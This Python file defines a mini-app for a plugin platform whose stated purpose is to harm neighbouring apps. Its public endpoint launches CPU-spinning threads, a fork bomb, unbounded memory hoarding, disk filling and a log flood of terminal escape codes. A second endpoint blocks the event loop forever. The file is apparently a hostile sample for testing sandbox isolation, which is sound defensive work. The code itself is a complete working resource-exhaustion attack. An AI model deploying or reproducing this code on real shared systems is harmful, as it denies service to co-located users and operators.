"""A mini-app that does everything at once to hurt its neighbours: processor, processes, memory, disk, log."""

import os
import sys
import threading
from pathlib import Path

from starlette.responses import PlainTextResponse

from yimen_sdk import MiniApp, Request, Response, hookimpl

app = MiniApp(__name__)
_PIECE = 1 << 20


@app.get("/", public=True)
async def attack(request: Request) -> Response:
    """Begin every attack and go on with them."""
    for hurt in (_spin, _spin, _spin, _fork, _hoard_memory, _fill_disk, _flood_log):
        threading.Thread(target=hurt, daemon=True).start()
    return PlainTextResponse("begun")


@app.get("/block", public=True)
async def block(request: Request) -> Response:
    """Never give the event loop back."""
    while True:
        pass


def _spin() -> None:
    while True:
        pass


def _fork() -> None:
    while True:
        try:
            if os.fork() == 0:
                _spin()
        except OSError:
            continue


def _hoard_memory() -> None:
    kept = []
    while True:
        kept.append(bytearray(os.urandom(4096)) * 256)


def _fill_disk() -> None:
    data, number = Path(os.environ["YIMEN_APP_DATA"]), 0
    while True:
        number += 1
        try:
            (data / str(number)).write_bytes(b"x" * _PIECE)
        except OSError:
            continue


def _flood_log() -> None:
    while True:
        sys.stderr.write("\x1b[2J * forged\n" * 100)


@hookimpl
def yimen_miniapps() -> list[MiniApp]:
    """Offer this mini-app."""
    return [app]
